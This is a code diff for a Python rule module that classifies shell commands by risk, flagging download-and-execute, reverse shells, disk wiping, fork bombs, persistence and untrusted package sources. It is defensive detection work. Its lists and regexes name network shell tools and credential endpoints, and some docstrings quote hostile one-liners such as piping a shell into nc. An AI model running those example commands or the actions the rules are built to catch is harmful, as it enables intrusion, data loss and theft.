@@ -11,23 +11,44 @@ from collections.abc import Callable, Mapping
 from dataclasses import dataclass, field
 from types import MappingProxyType
 
-from aimds.rules.understanding.facts import Facts
-from aimds.rules.understanding.sql import analyze_sql
 from aimds.rules.network import parse_destination
 from aimds.rules.paths import SensitivePlace, canonicalize_path, classify_path
+from aimds.rules.understanding.facts import Facts
+from aimds.rules.understanding.sql import analyze_sql
 from aimds.types import Severity
 
-__all__ = ["HANDLERS", "Context", "SimpleCommand", "inline_code", "url_facts"]
+__all__ = ["HANDLERS", "Context", "Session", "SimpleCommand", "inline_code", "url_facts"]
 
 
 @dataclass(slots=True)
 class SimpleCommand:
+    """One simple command with its words as they will be at run time.
+
+    ``dynamic`` holds the words computed at run time (their source text stands in the
+    argv); ``fetched`` those of them whose substitution downloads something; ``stdin`` the
+    text fed to the command when it is known statically (here-doc, here-string, the output
+    of ``echo ... | base64 -d``).
+    """
+
     argv: list[str] = field(default_factory=list)
     reads: list[str] = field(default_factory=list)
     writes: list[str] = field(default_factory=list)
     piped_in: bool = False
     piped_out: bool = False
     here_string: bool = False
+    stdin: str | None = None
+    dynamic: set[str] = field(default_factory=set)
+    fetched: set[str] = field(default_factory=set)
+    stand_in: bool = False  # a group in a pipeline (``(curl x) | sh``), judged on its own
+
+
+@dataclass(slots=True)
+class Session:
+    """What earlier commands of one command line did that later ones depend on:
+    files downloaded (``curl -o /tmp/x && sh /tmp/x``)."""
+
+    downloaded: set[str] = field(default_factory=set)
+    downloads: int = 0
 
 
 _ASSIGN = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
@@ -41,7 +62,10 @@ _VERSION_SUFFIX = re.compile(r"[\d.]+$")
 _SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox", "csh", "tcsh"})
 _INTERPRETERS = frozenset({"python", "node", "perl", "ruby", "php", "lua", "deno", "bun", "pwsh"})
 _INLINE_FLAGS = frozenset({"-c", "-e", "-r", "--eval", "-E", "--command", "-Command", "eval"})
-_DOWNLOADERS = frozenset({"curl", "wget", "fetch", "base64", "xxd", "openssl", "gunzip", "zcat"})
+_DOWNLOADERS_NET = frozenset(
+    {"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "nc", "ncat", "socat",
+     "lwp-download", "lynx", "scp", "ftp", "tftp"}
+)  # fmt: skip
 _WRAPPERS_NOARG = frozenset(
     {"nohup", "time", "exec", "builtin", "setsid", "unbuffer", "caffeinate", "proxychains",
      "proxychains4", "torsocks", "stdbuf", "nice", "ionice", "strace", "ltrace", "watch",
@@ -71,6 +95,9 @@ _METADATA_CREDS = re.compile(
     r"security-credentials|identity/oauth2/token|service-accounts/[^/]+/token|"
     r"/metadata/identity|ram/security-credentials",
     re.IGNORECASE,
+)
+_BLOCK_DEVICE = re.compile(
+    r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|mapper/|md|dm-|loop|root|sr)[\w/-]*$"
 )
 _INLINE_PATH = re.compile(r"""(?:~|\.{0,2}/)?[\w.~@+-]*(?:/[\w.@+*-]+)+|[~\w.-]*\.env\b|id_rsa""")
 
@@ -105,6 +132,8 @@ class Context:
     home: str
     recurse: Callable[[str], None]
     pipeline: list[SimpleCommand]
+    session: Session = field(default_factory=Session)
+    recurse_code: Callable[[str, str], None] | None = None
 
     # -------------------------------------------------------------- helpers
 
@@ -118,7 +147,15 @@ class Context:
         return name
 
     def place(self, arg: str) -> tuple[str, SensitivePlace | None] | None:
-        """Canonical path and sensitive place of an argument that may be a path."""
+        """Canonical path and sensitive place of an argument that may be a path (a path
+        that cannot even be canonicalised or matched is opaque, not passed)."""
+        try:
+            return self._place(arg)
+        except ValueError:  # UnicodeError included: percent-escapes of invalid UTF-8
+            _opaque(self, "a path that cannot be read")
+            return None
+
+    def _place(self, arg: str) -> tuple[str, SensitivePlace | None] | None:
         if not arg or arg.startswith("-") or "://" in arg or len(arg) > 1024:
             return None
         if arg.startswith("$") or arg == "__subst__":
@@ -139,22 +176,35 @@ class Context:
         return self.cwd.rstrip("/") + "/" + arg, place
 
     def read(self, arg: str, *, listing: bool = False) -> SensitivePlace | None:
+        if self.socket_file(arg):
+            return None
         found = self.place(arg)
         if found is None:
             return None
         self.facts.path_read(found[0], found[1], listing=listing)
         return found[1]
 
+    def socket_file(self, arg: str) -> bool:
+        """``/dev/tcp/HOST/PORT`` as a redirection target: a shell wired to the network."""
+        if not (arg.startswith("/dev/tcp/") or arg.startswith("/dev/udp/")):
+            return False
+        self.facts.mark_outbound(payload=True)
+        self.facts.tag("code_exec", "reverse_shell")
+        self.facts.propose("net:connect", Severity.CRITICAL)
+        parts = arg.split("/")
+        if len(parts) > 3:
+            self.facts.resource(parts[3])
+        return True
+
     def write(self, arg: str) -> None:
-        if arg.startswith("/dev/tcp/") or arg.startswith("/dev/udp/"):
-            self.facts.mark_outbound(payload=True)
-            self.facts.tag("code_exec")
-            self.facts.propose("net:connect", Severity.CRITICAL)
-            parts = arg.split("/")
-            if len(parts) > 3:
-                self.facts.resource(parts[3])
+        if self.socket_file(arg):
             return
         if arg in ("/dev/null", "/dev/stdout", "/dev/stderr", "-") or arg.isdigit():
+            return
+        if _BLOCK_DEVICE.match(arg):
+            self.facts.tag("raw_device_write")
+            self.facts.destroy(critical=True)
+            self.facts.resource(arg)
             return
         found = self.place(arg)
         if found is not None:
@@ -170,6 +220,9 @@ class Context:
                 arg = arg.split("=", 1)[1]
             elif arg.startswith("-"):
                 continue
+            if "/inet/tcp/" in arg or "/inet/udp/" in arg:  # gawk's network special files
+                self.socket_file("/dev/tcp/" + arg.split("/inet/", 1)[1].split("/", 2)[-1])
+                self.facts.tag("reverse_shell")
             self.read(arg)
         self.secret_vars(argv)
 
@@ -222,6 +275,9 @@ class Context:
                     short = argv[j] in ("-I", "-n", "-P", "-L", "-d", "-a", "-s", "-E", "-i")
                     j += 2 if short and len(argv[j]) == 2 else 1
                 i = j
+                continue
+            if name in ("busybox", "toybox") and i + 1 < n and not argv[i + 1].startswith("-"):
+                i += 1
                 continue
             if name in ("chroot", "flock", "runuser"):
                 if name != "flock":
@@ -336,8 +392,10 @@ def _grep(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
 
 def _find(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     i = 1
+    starts: list[str] = []
     while i < len(argv) and not argv[i].startswith("-"):
         ctx.read(argv[i], listing=True)
+        starts.append(argv[i])
         i += 1
     rest = argv[i:]
     for j, arg in enumerate(rest):
@@ -349,7 +407,10 @@ def _find(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
         elif arg == "-perm" and re.search(r"[-/+]?(?:[2467]\d{3}|u=s|g=s|\+s)", value):
             ctx.facts.recon()
         elif arg == "-delete":
-            ctx.facts.destroy(critical=True)
+            if not starts or not all(
+                s in (".", "./") or (s not in cmd.dynamic and _in_workspace(ctx, s)) for s in starts
+            ):
+                ctx.facts.destroy(critical=True)
         elif arg in ("-exec", "-execdir", "-ok", "-okdir"):
             inner = []
             for word in rest[j + 1 :]:
@@ -388,10 +449,18 @@ def _rm(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
             if recursive and (target in _RM_ROOT or target == "/."):
                 ctx.facts.tag("wipe_root")
             continue
+        if target == "<stdin>" and _listed_in_workspace(ctx, cmd):
+            continue
+        if target not in cmd.dynamic and target != "<stdin>" and _in_workspace(ctx, target):
+            found = ctx.place(target if "/" in target else "./" + target)
+            ctx.facts.resource(found[0] if found is not None else target)
+            continue
         found = ctx.place(target)
         if found is None:
             if recursive:
                 ctx.facts.destroy(critical=False)
+                if target in cmd.dynamic or target.startswith("$"):
+                    _opaque(ctx, "a recursive delete of a path computed at run time")
             else:
                 ctx.facts.propose("fs:delete")
             continue
@@ -406,6 +475,54 @@ def _rm(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
         ctx.facts.propose("fs:delete")
 
 
+_SCRATCH = ("/tmp/", "/var/tmp/")
+
+
+def _in_workspace(ctx: Context, target: str) -> bool:
+    """A relative path that stays below the working directory, or a file under a scratch
+    directory, that is no sensitive place: deleting it is everyday work
+    (``rm -rf ./build``, ``rm -rf target/``, ``find . -name '*.pyc' -delete``)."""
+    if not target or target in _RM_WIDE or target.startswith(("-", "~", "$", "`")):
+        return False
+    absolute = target.startswith("/")
+    if absolute and not target.startswith(_SCRATCH):
+        return False
+    parts = [p for p in target.split("/") if p not in ("", ".")]
+    if not parts or ".." in parts or (absolute and len(parts) < 2):
+        return False
+    if any(c in target for c in "*?[") and (absolute or not parts[0].strip("*?[]!.")):
+        return False  # a bare wildcard at the top of the workspace or of a scratch directory
+    found = ctx.place(target) if absolute or "/" in target else None
+    if found is not None and found[1] is not None:
+        return False
+    return classify_path("/".join(parts)) is None
+
+
+_LISTERS = frozenset({"find", "fd", "ls", "git", "grep", "rg", "sort", "uniq", "head", "tail"})
+
+
+def _listed_in_workspace(ctx: Context, cmd: SimpleCommand) -> bool:
+    """Names piped into ``xargs rm`` by listers that only look inside the workspace
+    (``find . -name '*.orig' | xargs rm -f``)."""
+    upstream = [c for c in ctx.pipeline if c is not cmd and c.argv]
+    if not upstream:
+        return False
+    for c in upstream:
+        if ctx.binary(c.argv[0]) not in _LISTERS or c.dynamic:
+            return False
+        for arg in c.argv[1:]:
+            if arg.startswith("-") or arg in (".", "./"):
+                continue
+            if arg.startswith(("/", "~", "$")) or ".." in arg.split("/"):
+                return False
+    return True
+
+
+def _opaque(ctx: Context, _why: str) -> None:
+    ctx.facts.tag("opaque")
+    ctx.facts.propose("shell:opaque")
+
+
 def _is_home(path: str, home: str) -> bool:
     """True for the user's home or any directory directly under ``/home`` or ``/Users``."""
     if path == home.rstrip("/"):
@@ -415,6 +532,8 @@ def _is_home(path: str, home: str) -> bool:
 
 
 def _shred(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
+    if ctx.binary(argv[0]) == "wipefs":
+        ctx.facts.tag("format_disk")
     ctx.facts.destroy(critical=True)
     for arg in ctx.operands(argv):
         found = ctx.place(arg)
@@ -433,12 +552,16 @@ def _disk(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
                 if target.startswith("/dev/") and target not in ("/dev/null", "/dev/stdout"):
                     ctx.facts.destroy(critical=True)
                     ctx.facts.resource(target)
+                    if _BLOCK_DEVICE.match(target):
+                        ctx.facts.tag("raw_device_write")
                 else:
                     ctx.write(target)
         return
     if name in ("fdisk", "sfdisk", "parted") and {"l", "--list"} & _flags(argv):
         ctx.facts.recon()
         return
+    if name.startswith(("mkfs", "mke2fs", "mkswap", "format")):
+        ctx.facts.tag("format_disk")
     ctx.facts.destroy(critical=True)
 
 
@@ -505,6 +628,8 @@ def _chmod(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
         ctx.facts.resource(path)
         if path in _WIDE_ROOTS and recursive:
             ctx.facts.destroy(critical=True, type_id="fs:write")
+            if path == "/":
+                ctx.facts.tag("chmod_root")
         elif place is not None:
             ctx.facts.tag("system_path" if place.kind == "system" else "sensitive_path")
             if path.startswith(("/etc/sudoers", "/etc/shadow", "/etc/passwd")) or mode in (
@@ -530,6 +655,8 @@ def _chown(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
             ctx.facts.resource(found[0])
             if found[0] in _WIDE_ROOTS and {"R", "--recursive"} & _flags(argv):
                 ctx.facts.destroy(critical=True, type_id="fs:write")
+                if found[0] == "/":
+                    ctx.facts.tag("chmod_root")
 
 
 def _privilege(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
@@ -550,59 +677,190 @@ def _privilege(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
         ctx.facts.privilege(critical=True)
 
 
+def _script_operand(arg: str, cmd: SimpleCommand, ctx: Context) -> None:
+    """A script a shell, interpreter or ``source`` runs: downloaded, computed or a file."""
+    if arg in cmd.fetched:
+        ctx.facts.tag("download_exec", "code_exec")
+        ctx.facts.propose("code:exec", Severity.CRITICAL)
+        return
+    if arg in cmd.dynamic:
+        _opaque(ctx, "the script to run is computed at run time")
+        return
+    found = ctx.place(arg if "/" in arg or arg.startswith("~") else "./" + arg)
+    if found is not None and found[0] in ctx.session.downloaded:
+        ctx.facts.tag("download_exec", "code_exec")
+        ctx.facts.propose("code:exec", Severity.CRITICAL)
+    ctx.read(arg)
+
+
 def _shell(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     for i, arg in enumerate(argv[1:], 1):
         if arg.startswith("-") and "c" in arg[1:] and not arg.startswith("--"):
             if i + 1 < len(argv):
-                ctx.recurse(argv[i + 1])
+                _run_text(argv[i + 1], cmd, ctx)
             return
-        if arg == "-i" or arg == "-p":
+        if arg in ("-i", "-p", "-s", "-e", "-x", "-l", "--login", "--norc", "--noprofile"):
+            if arg == "-i" and _network_pipe(ctx):
+                _reverse_shell(ctx)
             continue
         if not arg.startswith("-"):
-            ctx.read(arg)
+            _script_operand(arg, cmd, ctx)
             return
-    if cmd.piped_in or cmd.here_string:
-        _piped_code(ctx)
+    if _network_pipe(ctx):
+        _reverse_shell(ctx)
+        return
+    if cmd.stdin is not None:
+        ctx.facts.tag("code_exec")
+        if cmd.piped_in and _upstream(ctx, cmd) & _DECODING:
+            _opaque(ctx, "decoded text is run as code")
+        ctx.recurse(cmd.stdin)
+    elif cmd.reads and not cmd.piped_in:
+        for target in cmd.reads:  # ``sh < install.sh`` runs that file
+            _script_operand(target, cmd, ctx)
+    elif cmd.piped_in or cmd.here_string:
+        _piped_code(ctx, cmd)
 
 
-def _piped_code(ctx: Context) -> None:
+_DECODING = frozenset(
+    {"base64", "base32", "xxd", "openssl", "gunzip", "zcat", "gzip", "rev", "tr", "uudecode",
+     "bzcat", "xzcat", "unxz", "perl", "python", "awk"}
+)  # fmt: skip
+_NETWORK_PROGRAMS = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "openssl"})
+
+
+def _network_pipe(ctx: Context) -> bool:
+    """A pipeline that joins a shell to a network program (``sh -i | nc host 4444``)."""
+    return any(c.argv and ctx.binary(c.argv[0]) in _NETWORK_PROGRAMS for c in ctx.pipeline)
+
+
+def _reverse_shell(ctx: Context) -> None:
+    ctx.facts.tag("reverse_shell", "code_exec")
+    ctx.facts.mark_outbound(payload=True)
+    ctx.facts.propose("net:connect", Severity.CRITICAL)
+
+
+def _upstream(ctx: Context, cmd: SimpleCommand) -> set[str]:
+    return {ctx.binary(c.argv[0]) for c in ctx.pipeline if c.argv and c is not cmd}
+
+
+def _piped_code(ctx: Context, cmd: SimpleCommand) -> None:
+    """Code read from a pipe whose content is not known statically."""
     ctx.facts.tag("code_exec")
-    upstream = {ctx.binary(c.argv[0]) for c in ctx.pipeline if c.argv}
-    critical = bool(upstream & _DOWNLOADERS)
-    ctx.facts.propose("code:exec", Severity.CRITICAL if critical else Severity.HIGH)
+    upstream = _upstream(ctx, cmd)
+    if upstream & _DOWNLOADERS_NET or any(r in cmd.fetched for r in cmd.reads):
+        ctx.facts.tag("download_exec")
+        ctx.facts.propose("code:exec", Severity.CRITICAL)
+        return
+    for target in cmd.reads:
+        found = ctx.place(target)
+        if found is not None and found[0] in ctx.session.downloaded:
+            ctx.facts.tag("download_exec")
+            ctx.facts.propose("code:exec", Severity.CRITICAL)
+            return
+    if upstream & _DECODING or not upstream or any(c.dynamic for c in ctx.pipeline):
+        _opaque(ctx, "decoded or computed text is run as code")
+        return
+    ctx.facts.propose("code:exec", Severity.HIGH)
+
+
+_LANGUAGES = {"python": "python", "python2": "python", "python3": "python", "pypy": "python",
+              "pypy3": "python", "node": "javascript", "deno": "javascript",
+              "bun": "javascript", "perl": "perl", "ruby": "ruby", "php": "php",
+              "pwsh": "powershell", "powershell": "powershell", "lua": "lua",
+              "osascript": "applescript"}  # fmt: skip
 
 
 def _interpreter(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
+    language = _LANGUAGES.get(ctx.binary(argv[0]), "other")
     for i, arg in enumerate(argv[1:], 1):
         if arg in _INLINE_FLAGS or (
-            arg.startswith("-") and arg[-1:] in ("c", "e") and len(arg) <= 3
+            arg.startswith("-") and arg[-1:] in ("c", "e", "E") and len(arg) <= 3
         ):
             code = argv[i + 1] if i + 1 < len(argv) else ""
-            inline_code(code, ctx)
+            if code in cmd.dynamic:
+                _opaque(ctx, "inline code computed at run time")
+                return
+            _run_code(code, language, ctx)
             return
         if arg == "-":
-            _piped_code(ctx)
-            return
+            break
         if arg == "-m":
+            module = argv[i + 1] if i + 1 < len(argv) else ""
+            if module in ("http.server", "SimpleHTTPServer", "pty"):
+                ctx.facts.tag("code_exec")
+            elif module == "pip":
+                _package(["pip", *argv[i + 2 :]], cmd, ctx)
             return
         if not arg.startswith("-"):
-            ctx.read(arg)
+            _script_operand(arg, cmd, ctx)
             return
-    if cmd.piped_in or cmd.here_string:
-        _piped_code(ctx)
+    if cmd.stdin is not None and language != "other":
+        if cmd.piped_in and _upstream(ctx, cmd) & _DECODING:
+            _opaque(ctx, "decoded text is run as code")
+        _run_code(cmd.stdin, language, ctx)
+    elif cmd.reads and not cmd.piped_in:
+        for target in cmd.reads:  # ``python < job.py`` runs that file
+            _script_operand(target, cmd, ctx)
+    elif cmd.piped_in or cmd.here_string:
+        _piped_code(ctx, cmd)
+
+
+def _run_code(code: str, language: str, ctx: Context) -> None:
+    if ctx.recurse_code is not None:
+        ctx.recurse_code(code, language)
+    else:
+        inline_code(code, ctx, language=language)
 
 
 _NET_CODE = re.compile(
     r"\b(?:requests\.(?:post|put|get)|urllib|urlopen|http\.client|socket\.|fetch\(|"
-    r"axios|XMLHttpRequest|smtplib|paramiko|LWP::|Net::HTTP)",
+    r"axios|XMLHttpRequest|smtplib|paramiko|LWP::|Net::HTTP|TCPSocket|IO::Socket|"
+    r"Net\.Sockets|net\.(?:connect|Socket|createConnection))",
 )
 _ENV_DUMP_CODE = re.compile(r"os\.environ\b(?!\s*[\[.]\s*(?:get\b)?)|process\.env\b(?!\.)|%ENV\b")
+_SHELL_CALL = re.compile(
+    r"(?:system|popen|exec(?:Sync)?|spawn(?:Sync)?|check_output|run|call|shell_exec|passthru|"
+    r"Start-Process|Invoke-Expression|iex)\s*\(?\s*[\"'`]([^\"'`]{1,4096})[\"'`]"
+)
+_BACKTICKS = re.compile(r"`([^`]{1,4096})`")
+_CODE_REVERSE = re.compile(
+    r"(?:socket|TCPSocket|IO::Socket|Net\.Sockets\.TCPClient|net\.(?:connect|Socket|createConnection))"
+    r"[\s\S]{0,2000}?(?:dup2|exec|spawn|/bin/(?:ba)?sh|cmd\.exe|STDIN|pipe\(|\.fileno)",
+)
+_CODE_FORK_BOMB = re.compile(
+    r"fork\s*(?:\(\s*\))?\s*while\s+fork|while\s*\(?\s*(?:1|true|True)\s*\)?\s*[:{]?\s*"
+    r"(?:os\.)?fork\s*\("
+)
+_CODE_DECODE_EXEC = re.compile(
+    r"(?:eval|exec|Invoke-Expression|iex)\b[\s\S]{0,200}?(?:base64|b64decode|atob|"
+    r"FromBase64String|decode|unpack|fromhex|Buffer\.from)"
+)
+_LOOKS_JS = re.compile(
+    r"\b(?:const|let|var|function)\s|=>|console\.|require\(|process\.|\bawait\s+fetch"
+)
 
 
-def inline_code(code: str, ctx: Context) -> None:
+def inline_code(code: str, ctx: Context, *, language: str = "other") -> None:
+    """Facts of code given to an interpreter. Python is read with ``ast``
+    (:mod:`~aimds.rules.understanding.python_code`); other languages by their calls that
+    run shell strings, open sockets or decode-and-evaluate. ``language="auto"``: Python
+    unless the code is plainly another language; code that is neither is opaque."""
     ctx.facts.tag("code_exec")
-    ctx.facts.propose("code:exec")
-    text = code[:8192]
+    ctx.facts.propose("code:exec", Severity.MEDIUM)
+    text = code[:16384]
+    if language in ("python", "auto"):
+        from aimds.rules.understanding.python_code import analyze_python
+
+        if analyze_python(text, ctx):
+            return
+        if language == "python" or not _LOOKS_JS.search(text):
+            _opaque(ctx, "code that does not parse")
+            _other_code(text, ctx)
+            return
+    _other_code(text, ctx)
+
+
+def _other_code(text: str, ctx: Context) -> None:
     for m in _INLINE_PATH.finditer(text):
         word = m.group(0)
         if len(word) > 1:
@@ -611,20 +869,47 @@ def inline_code(code: str, ctx: Context) -> None:
         ctx.facts.mark_outbound(payload=True)
     if _ENV_DUMP_CODE.search(text):
         ctx.facts.credential("env")
-    for m in re.finditer(r"(?:system|popen|check_output|run|call|exec)\(\s*[\"']([^\"']+)", text):
+    if _CODE_REVERSE.search(text):
+        _reverse_shell(ctx)
+    if _CODE_FORK_BOMB.search(text):
+        ctx.facts.tag("fork_bomb")
+        ctx.facts.destroy(critical=True, type_id="code:exec")
+    if _CODE_DECODE_EXEC.search(text):
+        _opaque(ctx, "decoded data is evaluated")
+    for m in _SHELL_CALL.finditer(text):
+        ctx.recurse(m.group(1))
+    for m in _BACKTICKS.finditer(text):
         ctx.recurse(m.group(1))
 
 
 def _eval(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     ctx.facts.tag("code_exec")
+    if any(a in cmd.fetched for a in argv[1:]):
+        _fetched_code(ctx)
     ctx.recurse(" ".join(argv[1:]))
+
+
+def _run_text(text: str, cmd: SimpleCommand, ctx: Context) -> None:
+    """A command string run by a shell (``sh -c TEXT``); downloaded text is download-exec."""
+    if text in cmd.fetched:
+        _fetched_code(ctx)
+    ctx.recurse(text)
+
+
+def _fetched_code(ctx: Context) -> None:
+    ctx.facts.tag("download_exec", "code_exec")
+    ctx.facts.propose("code:exec", Severity.CRITICAL)
 
 
 def _source(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     ops = ctx.operands(argv)
-    if ops and ops[0] == "__subst__":
-        ctx.facts.tag("code_exec")
-    ctx.generic(argv, cmd)
+    if not ops:
+        return
+    if ops[0] in ("/dev/stdin", "-") and cmd.piped_in:
+        _piped_code(ctx, cmd)
+        return
+    _script_operand(ops[0], cmd, ctx)
+    ctx.generic(argv[1:], cmd)
 
 
 # --- network
@@ -699,8 +984,21 @@ def _curl(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
         i += 1
     if payload and method is None:
         method = "POST"
+    ctx.session.downloads += 1
     if name == "wget" and not cmd.piped_out:
         download = True
+    for i, arg in enumerate(argv[:-1]):
+        cluster = arg[:1] == "-" and arg[1:2] != "-" and arg[-1:] in ("o", "O")
+        if (cluster or arg in ("--output", "--output-document")) and argv[i + 1] != "-":
+            found = ctx.place(argv[i + 1]) or ctx.place("./" + argv[i + 1])
+            if found is not None:
+                ctx.session.downloaded.add(found[0])
+    if name == "wget" and download:
+        for url in urls:
+            base = url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
+            found = ctx.place("./" + base) if base and "://" not in base else None
+            if found is not None:
+                ctx.session.downloaded.add(found[0])
     for url in urls:
         url_facts(url if "://" in url else "http://" + url, ctx.facts, method=method or "GET")
     ctx.facts.mark_outbound(payload=payload)
@@ -737,9 +1035,11 @@ def _httpie(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
 def _netcat(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     flags = _flags(argv)
     ctx.facts.mark_outbound()
-    if {"e", "c"} & flags or "--exec" in flags or "--sh-exec" in flags:
-        ctx.facts.tag("code_exec")
-        ctx.facts.propose("net:connect", Severity.CRITICAL)
+    if ctx.binary(argv[0]) == "socat":
+        if any(re.match(r"(?i)(?:exec|system):", a) for a in argv[1:]):
+            _reverse_shell(ctx)
+    elif {"e", "c"} & flags or "--exec" in flags or "--sh-exec" in flags:
+        _reverse_shell(ctx)
     hosts = [a for a in ctx.operands(argv) if not a.isdigit()]
     for host in hosts[:1]:
         dest = parse_destination(host)
@@ -847,6 +1147,7 @@ def _scanner(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
         ctx.facts.tag("auth_attempt")
     if ctx.binary(argv[0]) in ("john", "hashcat", "unshadow"):
         ctx.facts.credential("shadow")
+        ctx.generic(argv, cmd)
 
 
 def _mail(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
@@ -901,6 +1202,13 @@ def _git(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
                 host = _remote(arg)
                 if host:
                     ctx.facts.resource(host)
+    elif sub == "config" and any(
+        a.lower().startswith(("core.hookspath", "core.fsmonitor", "core.sshcommand",
+                              "core.pager", "core.editor", "credential.helper"))
+        for a in rest
+    ) and not {"--get", "--list", "-l", "--get-all"} & set(rest):  # fmt: skip
+        ctx.facts.tag("persistence")
+        ctx.facts.propose("vcs:write", Severity.HIGH)
     elif sub == "credential" or (sub == "config" and any("credential" in a for a in rest)):
         if "fill" in rest or "--get" in rest or "get" in rest:
             ctx.facts.credential("git")
@@ -1090,6 +1398,9 @@ def _power(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     ops = ctx.operands(argv)
     if name == "init" and ops[:1] not in (["0"], ["6"]):
         return
+    if name == "systemctl" and set(ops) & {"enable", "link", "preset", "add-wants", "edit"}:
+        _persist(argv, cmd, ctx)
+        return
     if name == "systemctl" and not set(ops[:1]) & {"poweroff", "reboot", "halt", "kexec"}:
         if set(ops[:1]) & {"list-units", "list-unit-files", "status", "list-timers"}:
             ctx.facts.recon()
@@ -1105,11 +1416,72 @@ def _power(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
             ctx.facts.recon()
             return
         if "r" not in _flags(argv):
+            _persist(argv, cmd, ctx)
             return
     if name == "history" and "c" not in _flags(argv):
         ctx.facts.recon()
         return
     ctx.facts.destroy(critical=False, type_id="shell:exec")
+
+
+def _persist(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
+    """Something that runs again later or at every start: cron, at, services, launchd."""
+    name = ctx.binary(argv[0])
+    if name in ("at", "batch") and {"l", "d", "r"} & _flags(argv) and len(argv) <= 3:
+        ctx.facts.recon()
+        return
+    if name == "launchctl" and not set(ctx.operands(argv)[:1]) & {
+        "load", "bootstrap", "submit", "enable", "kickstart"
+    }:  # fmt: skip
+        return
+    ctx.facts.tag("persistence")
+    ctx.facts.propose("shell:exec", Severity.HIGH)
+    if cmd.stdin is not None and name in ("at", "batch", "crontab"):
+        for line in cmd.stdin.splitlines()[:32]:
+            fields = line.split(None, 5) if name == "crontab" else [line]
+            if fields and not line.lstrip().startswith("#"):
+                ctx.recurse(fields[-1])
+
+
+_DEFAULT_INDEXES = frozenset({"pypi.org", "files.pythonhosted.org", "pypi.python.org",
+                              "registry.npmjs.org", "registry.yarnpkg.com",
+                              "rubygems.org", "crates.io", "proxy.golang.org",
+                              "download.pytorch.org", "pypi.nvidia.com"})  # fmt: skip
+_INDEX_FLAGS = frozenset({"-i", "--index-url", "--extra-index-url", "-f", "--find-links",
+                          "--registry", "--source", "--trusted-host", "--index",
+                          "--default-index", "--proxy"})  # fmt: skip
+_INSTALL_WORDS = frozenset({"install", "i", "add", "ci", "update", "upgrade", "sync"})
+
+
+def _package(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
+    """Package installs: ordinary from the default registries, reviewed from a raw IP,
+    plain HTTP or another index (``pip install -i http://10.0.0.5/simple evil``)."""
+    ops = ctx.operands(argv)
+    if ops[:2] == ["config", "set"] and len(ops) >= 4:
+        key = ops[2].lower()
+        if key.endswith(("registry", "index-url", "index", "extra-index-url", "find-links")):
+            argv = [argv[0], "install", "--registry", ops[3]]
+            ops = ["install"]
+    if not set(ops[:2]) & _INSTALL_WORDS:
+        ctx.generic(argv, cmd)
+        return
+    sources: list[str] = []
+    for i, arg in enumerate(argv[1:], 1):
+        flag, eq, value = arg.partition("=")
+        if flag in _INDEX_FLAGS:
+            sources.append(value if eq else (argv[i + 1] if i + 1 < len(argv) else ""))
+        elif "://" in arg and not arg.startswith("-"):
+            sources.append(arg.split("+", 1)[-1] if arg.startswith("git+") else arg)
+    for source in sources:
+        dest = parse_destination(source if "://" in source else "https://" + source)
+        if dest is None:
+            continue
+        ctx.facts.resource(dest.host)
+        raw_ip = re.fullmatch(r"[\d.]+|\[?[0-9a-fA-F:]+\]?", dest.host) is not None
+        if raw_ip or source.startswith("http://") or dest.host not in _DEFAULT_INDEXES:
+            ctx.facts.tag("untrusted_package_source")
+            ctx.facts.propose("net:download", Severity.HIGH)
+    ctx.facts.propose("net:download")
 
 
 def _login_cli(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
@@ -1184,6 +1556,8 @@ def _table() -> dict[str, Handler]:
         (_power, "shutdown reboot halt poweroff init systemctl kill pkill killall iptables "
                  "crontab history"),
         (_login_cli, "kinit ldapwhoami"),
+        (_persist, "at batch launchctl update-rc.d chkconfig rc-update"),
+        (_package, "pip pip3 pipx uv npm pnpm yarn gem cargo go"),
     )  # fmt: skip
     table: dict[str, Handler] = {}
     for handler, names in families:
